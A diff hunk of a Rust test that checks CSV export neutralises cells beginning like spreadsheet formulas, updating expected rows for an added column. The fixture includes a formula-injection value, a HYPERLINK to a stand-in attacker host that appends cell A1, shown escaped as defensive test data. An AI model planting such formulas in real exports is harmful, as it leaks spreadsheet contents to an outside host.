@@ -38,9 +38,9 @@ fn csv_cells_that_start_like_formulas_are_neutralised() {
     let rows: Vec<&str> = csv.split("\r\n").collect();
     assert_eq!(
         rows[1],
-        r#"launch,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",business,General,2027-Q1,2027-03-31,,,,planned,,'@sales,,platform,,,,,Wait: 1 hour,milestones/launch/index.html"#
+        r#"launch,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",business,General,2027-Q1,2027-03-31,,,,planned,,'@sales,,,platform,,,,,Wait: 1 hour,milestones/launch/index.html"#
     );
-    assert_eq!(rows[2], "platform,'-1 for rollback,technology,'+infra,2026-12,2026-12-31,,,,planned,,,,,,launch,,,p95: 1 s,milestones/platform/index.html");
+    assert_eq!(rows[2], "platform,'-1 for rollback,technology,'+infra,2026-12,2026-12-31,,,,planned,,,,,,,launch,,,p95: 1 s,milestones/platform/index.html");
 }
 
 /// Narrative file names that break a URL or a file system path as they are.
